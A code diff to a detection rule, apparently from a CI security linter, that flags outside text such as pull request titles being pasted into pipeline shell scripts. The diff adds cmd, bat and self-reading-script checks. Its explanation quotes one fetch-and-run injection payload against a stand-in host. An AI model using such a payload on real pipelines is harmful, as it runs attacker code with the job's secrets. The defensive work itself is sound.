@@ -15,9 +15,11 @@ import {
   taintsOf,
   type Violation,
 } from "#policy";
+import { runByItself } from "./by-itself.ts";
 import { handedOver } from "./calls.ts";
 import { evaluatedByShell, expandedInput } from "./gitlab.ts";
-import { injectedByGroovy } from "./groovy.ts";
+import { injectedByGroovy, putInByBat } from "./groovy.ts";
+import { putInByCmd } from "./textual.ts";
 import { worstOf } from "./worst.ts";
 
 export default definePolicy({
@@ -27,18 +29,21 @@ export default definePolicy({
   confidence: "high",
   title: "Text that others write becomes part of a pipeline's script",
   why: "The platform pastes the expression into the script before a shell reads it. A pull request titled `$(curl evil.sh | sh)` then runs with the job's token and secrets, and with whatever the runner can reach: models, data, registries.",
-  fix: 'Hand the text over in the step\'s `env:` and read it as a quoted variable: `"$TITLE"`.',
+  fix: 'Hand the text over in the step\'s `env:` and read it as a quoted variable: `"$TITLE"`, in PowerShell `$env:TITLE`, in JavaScript `process.env.TITLE`. In cmd `%TITLE%` is pasted in just the same: use another shell, or `!TITLE!` after `setlocal EnableDelayedExpansion`.',
   references: ["CWE-78", "CWE-94", "AML.T0010", "https://docs.github.com/actions/concepts/security/script-injections"],
   since: "0.1.0",
   limits:
-    "Names of branches and tags of the repository itself (`github.ref`, `github.ref_name`, `github.base_ref`) and login names are not reported: those who can set them can push. Outputs of steps are followed when a script assigns them plainly, and for actions known to hand on foreign text. Inputs of GitLab templates are text of the file that includes them; they count where a shell reads a variable in them once more, and where `expand_vars` writes it out.",
+    "Names of branches and tags of the repository itself (`github.ref`, `github.ref_name`, `github.base_ref`) and login names are not reported: those who can set them can push. Outputs of steps are followed when a script assigns them plainly, and for actions known to hand on foreign text. Inputs of GitLab templates are text of the file that includes them; they count where a shell reads a variable in them once more, and where `expand_vars` writes it out. JavaScript and Python that take the text from the event or a variable by themselves are followed inside of one script, not through what an API answers.",
   reads: ["pipeline"],
   needs: CALLED_FILES,
   *check(document, { repository }) {
     for (const job of jobsAsWritten(document)) {
       for (const step of job.steps) {
         yield* handedOver(document, job, step, repository);
+        yield* runByItself(document, job, step);
+        yield* putInByCmd(document, job, step);
         yield* injectedByGroovy(document, job, step);
+        yield* putInByBat(document, job, step);
         yield* evaluatedByShell(document, job, step, repository);
         yield* expandedInput(document, job, step);
       }
